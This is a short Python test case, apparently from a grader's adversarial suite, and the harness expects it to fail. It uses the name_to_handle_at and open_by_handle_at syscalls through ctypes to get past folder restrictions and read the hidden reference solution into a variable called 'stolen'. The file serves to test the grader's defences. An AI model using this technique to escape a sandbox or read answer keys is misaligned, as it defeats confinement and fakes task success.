"""Opens the reference by its file handle, past all folders, as root may.

Expected: WA
"""

import sys
from pathlib import Path

home = Path(sys.modules["contestant"].__file__).parents[3]
paths = [home / "solutions" / family / f"{__name__}.py" for family in ("katas", "ml_katas")]

import ctypes
import os

libc = ctypes.CDLL(None)
NAME, OPEN = (303, 304) if os.uname().machine == "x86_64" else (264, 265)
handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
mount = ctypes.c_int()
for path in paths:
    libc.syscall(NAME, -100, str(path).encode(), handle, ctypes.byref(mount), 0)
    for start in (-100, 0, 1):
        if (opened := libc.syscall(OPEN, start, handle, os.O_RDONLY)) >= 0:
            stolen = os.read(opened, 1 << 16).decode()
